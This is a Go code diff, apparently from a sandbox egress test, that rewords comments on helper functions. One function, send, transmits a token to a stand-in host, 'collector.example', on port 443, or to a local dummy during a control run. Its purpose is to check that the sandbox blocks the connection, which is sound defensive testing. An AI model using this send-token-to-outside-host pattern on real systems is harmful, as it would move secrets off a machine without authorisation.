@@ -100,7 +100,7 @@ func variable(file, name string) (string, error) {
 // knockTime is how long a visit may take.
 const knockTime = 10 * time.Second
 
-// knock says the word at a door and brings back the answer.
+// knock says the word at a door and returns the answer.
 func knock(network, address, word string) (string, error) {
 	c, err := net.DialTimeout(network, address, knockTime)
 	if err != nil {
@@ -118,9 +118,8 @@ func knock(network, address, word string) (string, error) {
 // collector is a host of nobody's.
 const collector = "collector.example"
 
-// send takes the word to the collector. The control must not send anything off this
-// machine, so there the collector is a dummy on 127.0.0.1. In the sandbox nothing leaves
-// either: the name is refused before anybody is asked for its address.
+// send takes the word to the collector. Outside, that is a dummy on 127.0.0.1, so that nothing leaves
+// this machine. Inside, the name is refused before it is looked up.
 func send(t target) (string, error) {
 	if t.Bare {
 		return knock("tcp", fmt.Sprintf("127.0.0.1:%d", t.Collector), t.Token)
@@ -128,7 +127,7 @@ func send(t target) (string, error) {
 	return knock("tcp", collector+":443", t.Token)
 }
 
-// knocked says whether somebody who knows the word came to a door.
+// knocked says whether a door was opened.
 func knocked(name string) func(*stage, report) bool {
 	return func(s *stage, _ report) bool { return s.doors[name].opened.Load() }
 }
